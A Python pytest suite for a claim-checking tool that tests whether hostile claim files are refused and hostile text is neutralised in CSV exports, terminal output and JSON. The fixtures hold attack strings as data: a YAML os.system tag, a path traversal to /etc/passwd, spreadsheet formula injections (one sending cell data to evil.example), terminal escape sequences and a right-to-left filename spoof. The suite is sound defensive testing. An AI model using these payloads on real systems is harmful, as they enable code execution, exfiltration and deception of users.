"""Whatever a claim file holds is read rightly or refused by name; whatever a claim says stays text."""

import csv
import io
import json
import math
import re

import pytest
import yaml
from hypothesis import assume, given, settings
from hypothesis import strategies as st
from made_records import BASE, claim, entry, found
from rich.console import Console

from careshift import claims, cli, exports, inert_text, ledger
from careshift.claims import Claim, ClaimError, judge
from careshift.evidence import Chapter
from careshift.ledger import Entry
from careshift.pages import terminal

DEEP = "[" * 5000


@pytest.fixture
def read(tmp_path, monkeypatch):
    """Give a function that reads claims from the bytes of a file."""
    monkeypatch.setattr(claims, "CLAIMS", tmp_path)

    def load(content: bytes | str) -> list[Claim]:
        kept = content.encode("utf-8", "surrogatepass") if isinstance(content, str) else content
        (tmp_path / "hendry2021.yml").write_bytes(kept)
        return claims._load_file("hendry2021")

    return load


def record(**fields: object) -> str:
    return json.dumps([{k: v for k, v in (BASE | fields).items() if v is not None}])


BAD_FILES = {
    "nothing": ("", "is no list of records"),
    "a single record": ("id: hendry2021/x", "is no list of records"),
    "a text": ("reproduced", "is no list of records"),
    "a list of texts": ("- reproduced", "record 1, record"),
    "a list of nothing": ("-", "record 1, record"),
    "an open bracket": ("- {", "is not YAML"),
    "very deep nesting": (DEEP, "is not YAML"),
    "another encoding": (record(says="Ä").encode("utf-16"), "hendry2021.yml"),
    "bytes that are no text": (b"- id: \xff\xfe\x00\x81", "is not YAML"),
    "a key twice": ("- id: hendry2021/x\n  says: one\n  says: other\n", 'the key "says" stands twice'),
    "code": ('- !!python/object/apply:os.system ["true"]', "is not YAML"),
    "a date that does not exist": ("- id: hendry2021/x\n  period: 2019-02-30\n", "is not YAML"),
    "a key that is a list": ("- ? [a, b]\n  : c\n", "is not YAML"),
}


@pytest.mark.parametrize("name", BAD_FILES)
def test_a_bad_file_is_refused_by_name(name, read) -> None:
    content, message = BAD_FILES[name]
    with pytest.raises(ClaimError, match=message) as refused:
        read(content)
    assert "hendry2021.yml" in str(refused.value)
    assert len(str(refused.value)) < 1000


def test_a_bomb_of_references_stays_small(read) -> None:
    layers = "".join(f"- &l{i + 1} [{', '.join([f'*l{i}'] * 10)}]\n" for i in range(20))
    with pytest.raises(ClaimError, match="record 1, record"):
        read("- &l0 [x]\n" + layers)


BAD_FIELDS = {
    "printed nan": {"printed": "nan"},
    "printed infinity": {"printed": "infinity"},
    "printed as a power": {"printed": "1e3"},
    "printed with misplaced commas": {"printed": "1,2,3"},
    "printed with an underscore": {"printed": "1_000"},
    "printed in digits of another script": {"printed": "２０"},
    "printed with a space": {"printed": "2 0"},
    "printed as a list": {"printed": ["20"]},
    "printed as a number": {"printed": 20},
    "reads as infinity": {"reads_as": math.inf},
    "reads as no number": {"reads_as": math.nan},
    "reads as a range without end": {"reads_as": [20, math.inf]},
    "reads as a range turned round": {"reads_as": [30, 20]},
    "reads as a truth": {"reads_as": True},
    "rounded to infinity": {"rounded_to": math.inf},
    "rounded to nothing": {"rounded_to": 0},
    "rounded to less": {"rounded_to": -1},
    "pivot no number": {"pivot": math.nan},
    "an id of another document": {"id": "someone2020/x"},
    "an id with markup": {"id": "hendry2021/<b>"},
    "an id that climbs": {"id": "hendry2021/../../etc/passwd"},
    "an id that goes on on a second line": {"id": "hendry2021/x\n"},
    "a verdict of its own": {"verdict": "reproduced"},
    "a kind of before": {"kind": "arithmetic"},
    "an unhashable kind": {"kind": ["statement"]},
    "a repeat that is a list": {"repeats": ["hendry2021/x"]},
    "outside data that are text": {"outside": 'official("a", "b", "c")'},
    "outside data without readings": {"outside": {"match": "same", "basis": "b", "choices": []}},
    "outside data without an expression": {
        "outside": {"match": "same", "basis": "b", "choices": [{"label": "l", "value": " "}]}
    },
    "outside data without a basis": {
        "outside": {"match": "same", "basis": "", "choices": [{"label": "l", "value": "1"}]}
    },
    "outside data with a verdict": {
        "outside": {
            "match": "same",
            "basis": "b",
            "choices": [{"label": "l", "value": "1"}],
            "outcome": "reproduced",
        }
    },
}


@pytest.mark.parametrize("name", BAD_FIELDS)
def test_a_bad_field_is_refused_with_file_and_record(name, read) -> None:
    assert read(record())[0].value == 20
    with pytest.raises(ClaimError, match=r"^hendry2021\.yml, "):
        read(record(**BAD_FIELDS[name]))


@pytest.mark.parametrize(
    "content", [b"\xef\xbb\xbf" + record().encode(), record().replace(", ", ",\r\n").encode()]
)
def test_a_mark_of_byte_order_and_windows_line_ends_change_nothing(content, read) -> None:
    assert read(content) == read(record())


SCALARS = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(),
    st.floats(),
    st.text(max_size=20),
    st.lists(st.integers(), max_size=3),
)


@given(st.dictionaries(st.sampled_from(sorted(Claim.model_fields)), SCALARS, max_size=6))
@settings(max_examples=300)
def test_any_record_is_a_claim_with_finite_numbers_or_refused(fields) -> None:
    try:
        made = claims._claim(yaml.load(yaml.safe_dump(BASE | fields), claims.RecordLoader), "f.yml", 1)
    except ClaimError:
        return
    low, high = made.ends
    assert math.isfinite(low)
    assert math.isfinite(high)
    assert low <= made.value <= high
    assume(abs(made.value) < 2**50 * (made.rounded_to or 1))  # beyond, half a unit has no binary fraction
    assert made.interval.contains(made.value) or made.qualifier in (
        "more than",
        "less than",
        "almost",
        "just over",
    )
    verdict = judge(made, found(made.value + 1e3, claim=made.id))
    assert verdict.outcome in (*claims.OUTCOMES, claims.APART)
    assert (verdict.outcome == claims.APART) == (made.kind not in claims.COUNTED)


@pytest.mark.parametrize("value", [math.nan, math.inf, -math.inf])
def test_a_derived_value_that_is_not_finite_never_becomes_a_verdict(value) -> None:
    chapter, name = Chapter("scotland/care_home_residents"), "hendry2021/care-home-residents-below-expected"
    for given_ in (
        {"derived": value},
        {"derived": 1.0, "rounding": (0.0, value)},
        {"derived": 1.0, "limits": (0.0, value)},
        {"derived": 1.0, "bounds": (0.0, value)},
        {"derived": 1.0, "choices": [claims.Choice.model_construct(label="a", value=value, decides=True)]},
    ):
        with pytest.raises(ClaimError, match=rf"{name}: .* not a finite number"):
            chapter.judge(name, basis="by hand", **given_)
    with pytest.raises(ValueError, match="finite"):
        found(value)


HOSTILE = {
    "a link": '=HYPERLINK("http://evil.example/?"&A1,"here")',
    "a command": "+cmd|' /C calc'!A0",
    "a sum": "-2+3+cmd|' /C calc'!A0",
    "a function": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a formula behind a tab": '\t=HYPERLINK("http://evil.example")',
    "a formula behind a line end": "\r\n=1+1",
    "a formula behind a control character": "\x00=1+1",
    "a colour of the terminal": "\x1b[31mred\x1b[0m",
    "a title of the terminal": "\x1b]0;owned\x07",
    "a screen wiped": "\x1b[2J\x1b[H",
    "an eight-bit control": "\x9b31m",
    "a line over the last": "seen\rover",
    "a backspace": "bad\b\b\bgood",
    "letters turned round": "abc\u202egpj.exe",
    "markup of the terminal": "[bold red]x[/bold red] [link=http://evil.example]y[/link]",
}
TEXTS = ("says", "printed", "unit", "period", "area", "needs", "note", "reply")


def spoilt(text: str) -> Entry:
    """Return an entry whose every text is hostile."""
    fields = dict.fromkeys(TEXTS, text) | {"reads_as": 20, "where": {"section": text, "item": text}}
    record = claim(**fields)
    evidence = found(20, nearest=True, basis=text, limits_kind=text, choices=[{"label": text, "value": 20}])
    return Entry(record, evidence, judge(record, evidence))


def is_formula(text: str) -> bool:
    """Return whether a spreadsheet would compute the cell: by its first visible character, numbers aside."""
    seen = text.lstrip("\t\r\n \x00")
    return seen[:1] in ("=", "+", "-", "@") and not re.fullmatch(r"[-+]?[\d,]*\.?\d+", seen)


@pytest.mark.parametrize("name", HOSTILE)
def test_the_flat_table_holds_no_formula_and_no_control_character(name) -> None:
    text = exports.as_csv([spoilt(HOSTILE[name])])
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert len(cells) == 2 * len(exports._row(spoilt("x")))
    assert not [cell for cell in cells if is_formula(cell)]
    assert all(c.isprintable() for cell in cells for c in cell)


def test_printed_numbers_with_a_sign_stay_numbers_in_the_flat_table() -> None:
    rows = list(
        csv.DictReader(io.StringIO(exports.as_csv([entry(20, printed="+48.8"), entry(-3, printed="-1,000")])))
    )
    assert [row["printed"] for row in rows] == ["+48.8", "-1,000"]
    assert rows[1]["derived"] == "-3.0"


def shown(monkeypatch, capsys, made: Entry, *words: str) -> str:
    """Return what `careshift claims` writes to a terminal that knows colours."""
    monkeypatch.setattr(cli.ledger, "read_ledger", lambda file: [made])
    monkeypatch.setattr(cli.ledger, "out", Console(highlight=False, force_terminal=True, width=10_000))
    cli.app(["claims", *words], standalone_mode=False)
    return capsys.readouterr().out


@pytest.mark.parametrize("words", [(), ("--id", BASE["id"])])
@pytest.mark.parametrize("name", HOSTILE)
def test_the_terminal_shows_text_and_obeys_none_of_it(name, words, monkeypatch, capsys) -> None:
    text = shown(monkeypatch, capsys, spoilt(HOSTILE[name]), *words)
    assert all(c.isprintable() or c == "\n" for c in text), repr(text)
    assert BASE["id"] in text
    assert text.count("\n") == shown(monkeypatch, capsys, spoilt("plain"), *words).count("\n")
    if "markup" in name:
        assert "[bold red]" in text


@pytest.mark.parametrize("name", HOSTILE)
def test_json_for_programs_keeps_the_text_and_escapes_what_steers_a_terminal(
    name, monkeypatch, capsys
) -> None:
    text = shown(monkeypatch, capsys, spoilt(HOSTILE[name]), "--json")
    assert json.loads(text)[0]["claim"]["says"] == HOSTILE[name]
    assert all(c.isprintable() or c == "\n" for c in text), repr(text)


def test_an_error_about_a_hostile_record_is_shown_as_text(read, monkeypatch, capsys) -> None:
    with pytest.raises(ClaimError) as refused:
        read(record(id=HOSTILE["a screen wiped"] + HOSTILE["markup of the terminal"]))
    monkeypatch.setattr(cli, "err", Console(stderr=True, highlight=False, force_terminal=True, width=10_000))

    def fail() -> None:
        raise refused.value

    monkeypatch.setattr(cli, "app", fail)
    with pytest.raises(SystemExit):
        cli.main()
    text = capsys.readouterr().err.replace("\x1b[31m", "").replace("\x1b[0m", "")  # our own red "Error:"
    assert "[bold red]x" in text
    assert all(c.isprintable() or c == "\n" for c in text)


def test_the_checks_see_what_the_defences_keep_out(monkeypatch, capsys) -> None:
    """Without its defence each of the tests above fails."""
    evil = spoilt(HOSTILE["a colour of the terminal"])
    monkeypatch.setattr(terminal, "printable", str)
    assert "\x1b" in terminal.whole(evil)
    monkeypatch.setattr(exports, "cell", lambda value: value)
    assert "\x1b" in exports.as_csv([evil])
    assert any(map(is_formula, exports.as_csv([spoilt("=1+1")]).split(",")))


@given(st.text(max_size=40))
def test_no_text_at_all_becomes_a_formula_or_steers(text: str) -> None:
    kept = inert_text.cell(text)
    assert not is_formula(kept)
    assert all(c.isprintable() for c in kept)
    assert inert_text.cell(3.5) == 3.5


def test_the_built_ledger_keeps_every_printed_text(built) -> None:
    entries = ledger.from_json((built.parent / "ledger.json").resolve().read_text(encoding="utf-8"))
    assert all(inert_text.printable(e.claim.says) == " ".join(e.claim.says.split()) for e in entries)
    assert all(not e.claim.says.startswith("'") for e in entries)


def test_a_claim_with_every_field_hostile_still_has_its_verdict() -> None:
    made = claim(says=HOSTILE["a link"], note=HOSTILE["a screen wiped"])
    assert judge(made, found(20)).outcome == "reproduced"
